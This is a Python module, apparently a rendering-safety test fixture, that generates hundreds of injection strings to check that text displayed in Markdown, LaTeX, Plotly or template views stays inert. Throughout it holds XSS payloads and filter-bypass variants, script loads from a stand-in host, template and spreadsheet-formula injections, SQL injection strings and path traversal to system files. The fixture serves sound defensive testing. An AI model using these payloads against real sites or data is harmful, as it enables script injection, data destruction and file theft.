"""Texts of cells that would like to be markup: what runs, what carries it, how it is written, where it is.

Each sets `window.attacked` where it runs, leads to another machine where it is followed or loaded, or becomes
a part of the page. The parts are those of the usual lists (OWASP's and PortSwigger's cheat sheets, and what
Markdown, LaTeX, Plotly and templates make of text), put together by rule, so that none is forgotten:

    tags × handlers × quotes; tags that run by themselves × what ends the place they stand in;
    ways to link × addresses; each plainly, in mixed capitals, by entities.
"""

from __future__ import annotations

from functools import cache
from itertools import product

_CODE = "window.attacked=1"
_ELSEWHERE = "http://example.invalid/x"

# A tag and the handlers that run in it without a hand being moved, or with one.
_HANDLERS = {
    "img src=x": ("onerror", "onload", "onpointerenter"),
    "svg": ("onload", "onfocusin"),
    "body": ("onload", "onpageshow", "onhashchange"),
    "video src=x": ("onerror", "onloadstart"),
    "audio src=x": ("onerror", "onloadstart"),
    "details open": ("ontoggle",),
    "input autofocus": ("onfocus", "onblur"),
    "select autofocus": ("onfocus",),
    "textarea autofocus": ("onfocus",),
    "marquee": ("onstart", "onfinish"),
    "div tabindex=0": ("onmouseover", "onclick", "oncontextmenu", "onwheel", "onanimationstart"),
    "b": ("onmouseover", "onpointerover"),
    "a href=#": ("onclick", "onfocus"),
    "iframe": ("onload",),
    "object data=x": ("onerror",),
    "link rel=stylesheet href=x": ("onerror",),
    "math": ("onclick",),
    "table": ("onmouseover",),
}
_QUOTES = ('{handler}="{code}"', "{handler}='{code}'", "{handler}={code}")
# What ends the place a text may stand in, before its own tag begins.
_WAYS_OUT = (
    "{tag}",
    '">{tag}',
    "'>{tag}",
    "</td></tr></table>{tag}",
    "</title></style></textarea></script>{tag}",
    "</text></svg>{tag}",
    "-->{tag}<!--",
    "]]>{tag}",
    "\\u003c/script\\u003e{tag}",
)
_RUNNING = (
    f"<script>{_CODE}</script>",
    f"<script src={_ELSEWHERE}.js></script>",
    "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
    f"<iframe src=javascript:parent.{_CODE}></iframe>",
    f"<svg><script>{_CODE}</script></svg>",
    f"<svg><animate onbegin={_CODE} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={_CODE} attributeName=x></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_CODE}>#x'></svg>",
    f"<svg><foreignObject><img src=x onerror={_CODE}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={_CODE}></mtext></math>",
    f"<object data='data:text/html,<script>{_CODE}</script>'></object>",
    f"<embed src='data:text/html,<script>{_CODE}</script>'>",
    f"<form action=javascript:{_CODE}><input type=submit></form>",
    f"<button formaction=javascript:{_CODE}>x</button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CODE}'>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    f"<base href={_ELSEWHERE}/>",
    f"<style>@import '{_ELSEWHERE}.css';</style>",
    f"<style>*{{background:url({_ELSEWHERE}.png)}}</style>",
    f"<div style='background:url({_ELSEWHERE}.png)'>x</div>",
    f"<img src={_ELSEWHERE}.png>",
    f"<img srcset='{_ELSEWHERE}.png 2x'>",
    f"<link rel=prefetch href={_ELSEWHERE}>",
    f"<template><script>{_CODE}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CODE}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={_CODE}>'>",
    f"<custom-part onclick={_CODE}>x</custom-part>",
)
_ADDRESSES = (
    f"javascript:{_CODE}",
    f"JaVaScRiPt:{_CODE}",
    f"java\tscript:{_CODE}",
    f"java&#10;script:{_CODE}",
    f" javascript:{_CODE}",
    f"javascript&colon;{_CODE}",
    f"javascript:/*--></title>*/{_CODE}//",
    f"vbscript:{_CODE}",
    f"data:text/html,<script>{_CODE}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==",
    _ELSEWHERE,
    "//example.invalid/x",
)
# What leads to an address: HTML, Plotly's pseudo-HTML, Markdown, LaTeX, wiki.
_LINKS = (
    "<a href='{address}'>点此</a>",
    '<a href="{address}" target="_blank"><b>点此</b></a>',
    "<svg><a xlink:href='{address}'><text>点此</text></a></svg>",
    "[点此]({address})",
    "[点此]: {address}",
    "![图]({address})",
    "<{address}>",
    "$\\href{{{address}}}{{点此}}$",
    "[[{address}|点此]]",
)
# What else reads texts: Streamlit's Markdown, LaTeX, templates, Plotly, spreadsheets, SQL, paths.
_LANGUAGES = (
    ":material/home: :red[红] :rainbow[彩] **粗** _斜_ ~~删~~ `码`",
    "# 标题",
    "> 引用",
    "- [ ] 待办",
    "| 甲 | 乙 |",
    "```\n码\n```",
    "***",
    "$x^2$ $$\\frac{1}{2}$$ \\(y\\) \\[z\\]",
    "$\\includegraphics{http://example.invalid/x.png}$",
    "$\\htmlData{x=1}{y}$",
    "{{constructor.constructor('window.attacked=1')()}}",
    "${window.attacked=1}",
    "#{window.attacked=1}",
    "<%= window.attacked=1 %>",
    "{% raw %}{{7*7}}{% endraw %}",
    "%{y:.2f}<extra>%{x}</extra>",
    "%{customdata.__proto__}",
    "<b>粗</b><br><i>斜</i><sup>上</sup><sub>下</sub><span style='color:red'>红</span>",
    "<extra></extra>",
    '=HYPERLINK("http://example.invalid/x","点此")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "'; DROP TABLE activities; --",
    "' OR '1'='1",
    '" UNION SELECT * FROM ledger.files --',
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "__proto__",
    "constructor",
    "</script",
    "<",
    "&",
    "&amp;&lt;&gt;&quot;&#39;",
    "%3Cscript%3Ewindow.attacked=1%3C/script%3E",
    "\\x3cscript\\x3ewindow.attacked=1\\x3c/script\\x3e",
    "＜script＞window.attacked=1＜/script＞",
    "‹script›window.attacked=1‹/script›",
    "\u202eeno=dekcatta\u202c右起",
    "零\u200b宽\u200d字\ufeff符",
    "组\u0301\u0301\u0301\u0301合",
    "👩\u200d👩\u200d👧\u200d👦 表情",
    "𠮷 增补平面",
    "ﷺ 长字",
    "甲\u2028乙\u2029丙",
    "甲\x7f乙",
    "<scr\u200bipt>window.attacked=1</scr\u200bipt>",
    "<ſcript>window.attacked=1</ſcript>",
    "<ımg src=x onerror=window.attacked=1>",
)


def _entities(text: str) -> str:
    return "".join(f"&#x{ord(letter):x};" if not letter.isalnum() else letter for letter in text)


def _crossed(text: str) -> str:
    """Tags and names do not mind capitals; what runs does."""
    return _CODE.join(
        "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(part))
        for part in text.split(_CODE)
    )


def _handled() -> list[str]:
    found = []
    kinds = [(tag, handler) for tag, handlers in _HANDLERS.items() for handler in handlers]
    for (tag, handler), quoted in product(kinds, _QUOTES):
        found.append(f"<{tag} {quoted.format(handler=handler, code=_CODE)}>")
    for tag, handler in kinds:
        written = f"<{tag} {handler}={_CODE}"
        found += [
            f"{written}//",
            f"{written}>".replace(" ", "/"),
            _crossed(f"{written}>"),
            _entities(f"{written}>"),
        ]
    return found


@cache
def hostile_texts() -> tuple[str, ...]:
    """Return more than 500 distinct texts, each to be shown as it is written."""
    running = [*_RUNNING, *map(_entities, _RUNNING), *map(_crossed, _RUNNING)]
    links = [way.format(address=address) for way, address in product(_LINKS, _ADDRESSES)]
    first = (f"<img src=x onerror={_CODE}>", f"<svg onload={_CODE}>", *_RUNNING[:5])
    ways_out = [way.format(tag=tag) for way, tag in product(_WAYS_OUT, first)]
    return tuple(dict.fromkeys((*_LANGUAGES, *running, *links, *ways_out, *_handled())))
